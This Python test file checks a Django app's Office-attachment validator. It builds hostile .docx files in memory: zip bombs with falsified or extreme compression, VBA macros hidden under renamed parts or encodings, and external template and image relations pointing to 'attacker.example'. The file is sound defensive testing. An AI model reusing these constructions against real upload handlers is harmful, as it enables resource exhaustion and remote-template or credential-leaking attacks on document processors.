"""Office documents are archives: a member cannot make the server unpack a bomb (a 1 MB .docx of
1 GB of zeros took 16 s and 2.1 GB of a worker), nor slip in macros under another part name or
a template fetched from elsewhere. Every hostile file is built here, in memory, without ever
holding what it claims to unpack to."""

import io
import time
import tracemalloc
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from exchanges.models import Attachment
from exchanges.validators import validate_attachment_file

pytestmark = pytest.mark.django_db

GB = 1024 * 1024 * 1024
MB = 1024 * 1024
TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    "{more}</Types>"
)
RELATIONS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{relations}</Relationships>"
)
OFFICE_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx(
    *,
    types: str = "",
    parts: dict[str, bytes | str] | None = None,
    types_encoding: str = "utf-8",
) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        content_types = TYPES.format(more=types)
        if types_encoding != "utf-8":
            content_types = content_types.replace('"UTF-8"', f'"{types_encoding.upper()}"')
        archive.writestr("[Content_Types].xml", content_types.encode(types_encoding))
        parts = {"word/document.xml": "<w:document/>", **(parts or {})}
        for name, data in parts.items():
            archive.writestr(name, data)
    return output.getvalue()


def relations(*relation: str) -> str:
    return RELATIONS.format(relations="".join(relation))


def lying(content: bytes, name: str, declared: int) -> bytes:
    """`content` whose member `name` is declared, in the archive's directory, to unpack to
    `declared` bytes (zipfile writes the directory from these ZipInfo at close)."""
    source = zipfile.ZipFile(io.BytesIO(content))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info, source.read(info))
        archive.getinfo(name).file_size = declared
    return output.getvalue()


def with_zeros(name: str, size: int) -> bytes:
    """A docx whose member `name` really unpacks to `size` zeros, written 1 MB at a time."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES.format(more=""))
        archive.writestr("word/document.xml", "<w:document/>")
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as member:
            chunk = bytes(MB)
            for _ in range(size // MB):
                member.write(chunk)
    return output.getvalue()


def check(content: bytes, name: str = "rapport.docx") -> str:
    return validate_attachment_file(SimpleUploadedFile(name, content))


def refusal(content: bytes) -> str:
    with pytest.raises(ValidationError) as error:
        check(content)
    return error.value.code


def test_a_gigabyte_declared_inside_a_small_docx_is_refused_before_anything_is_unpacked():
    bomb = lying(docx(parts={"word/media/zeros.bin": bytes(MB)}), "word/media/zeros.bin", GB)
    assert len(bomb) < 20_000

    tracemalloc.start()
    started = time.perf_counter()
    code = refusal(bomb)
    elapsed = time.perf_counter() - started
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert code == "office_too_big"
    assert elapsed < 0.5
    assert peak < 5 * MB


def test_a_member_packed_tighter_than_any_document_is_refused():
    """64 MB of zeros, honestly declared: under the size caps, but 1 000 times packed."""
    bomb = with_zeros("word/media/image1.png", 64 * MB)
    assert len(bomb) < 200_000

    assert refusal(bomb) == "office_too_big"


def test_a_declaration_that_unpacks_to_more_than_it_says_is_read_no_further():
    """[Content_Types].xml, the part the macro check reads, says 300 bytes and inflates to
    64 MB: at most what it declares is read, and the archive is refused."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        declaration = zipfile.ZipInfo("[Content_Types].xml")
        declaration.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(declaration, "w", force_zip64=True) as member:
            member.write(TYPES.format(more="").encode())
            for _ in range(64):
                member.write(bytes(MB))
        archive.writestr("word/document.xml", "<w:document/>")
        archive.getinfo("[Content_Types].xml").file_size = 300
    hostile = output.getvalue()

    tracemalloc.start()
    code = refusal(hostile)
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert code == "broken_office"
    assert peak < 5 * MB


VBA = "application/vnd.ms-office.vbaProject"
HIDDEN_MACROS = {
    "renamed-part-declared": docx(
        types=f'<Override PartName="/word/data.bin" ContentType="{VBA}"/>',
        parts={"word/data.bin": b"\xcc\x61macro"},
    ),
    "bin-extension-declared": docx(
        types=f'<Default Extension="bin" ContentType="{VBA}"/>',
        parts={"customXml/item9.bin": b"\xcc\x61macro"},
    ),
    "macro-enabled-main-part": docx(
        types='<Override PartName="/word/document.xml" '
        'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    ),
    "declared-in-utf-16": docx(
        types=f'<Override PartName="/word/x.dat" ContentType="{VBA}"/>',
        types_encoding="utf-16",
    ),
    "found-by-relation": docx(
        parts={
            "word/_rels/document.xml.rels": relations(
                '<Relationship Id="rId9" Target="x.dat" '
                'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/>'
            ),
            "word/x.dat": b"\xcc\x61macro",
        }
    ),
    "vba-project-in-another-folder": docx(parts={"xl/stuff/VBAPROJECT.BIN": b"\xcc\x61"}),
}


@pytest.mark.parametrize("content", HIDDEN_MACROS.values(), ids=HIDDEN_MACROS.keys())
def test_macros_under_any_part_name_are_refused(content):
    assert refusal(content) == "macros"


def test_an_external_template_is_refused(client, officer_savoie, visit, media_root):
    template = docx(
        parts={
            "word/_rels/settings.xml.rels": relations(
                f'<Relationship Id="rId1" Type="{OFFICE_RELATIONS}/attachedTemplate" '
                'Target="https://attacker.example/t.dotm" TargetMode="External"/>'
            )
        }
    )
    client.force_login(officer_savoie)

    response = client.post(
        f"/fr/exchanges/{visit.pk}/attachments/new/",
        {"file": SimpleUploadedFile("bilan.docx", template), "caption_fr": "Bilan"},
    )

    assert response.status_code == 200
    assert "va chercher un modèle" in str(response.context["form"].errors["file"])
    assert 'value="Bilan"' in response.content.decode()
    assert not Attachment.objects.exists()


def test_an_external_picture_is_refused():
    picture = docx(
        parts={
            "word/_rels/document.xml.rels": relations(
                f'<Relationship Id="rId4" Type="{OFFICE_RELATIONS}/image" '
                'Target="\\\\attacker.example\\share\\p.png" TargetMode="External"/>'
            )
        }
    )
    assert refusal(picture) == "external_relation"


def test_a_document_with_links_and_pictures_of_its_own_is_accepted():
    document = docx(
        types='<Default Extension="png" ContentType="image/png"/>',
        parts={
            "word/_rels/document.xml.rels": relations(
                f'<Relationship Id="rId1" Type="{OFFICE_RELATIONS}/hyperlink" '
                'Target="https://www.savoie.fr/" TargetMode="External"/>',
                f'<Relationship Id="rId2" Type="{OFFICE_RELATIONS}/image" '
                'Target="media/image1.png"/>',
            ),
            "word/media/image1.png": bytes(range(256)) * 40,
            "word/document.xml": "<w:document>" + "<w:p>Un échange.</w:p>" * 2000 + "</w:document>",
        },
    )
    assert (
        check(document) == "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    )
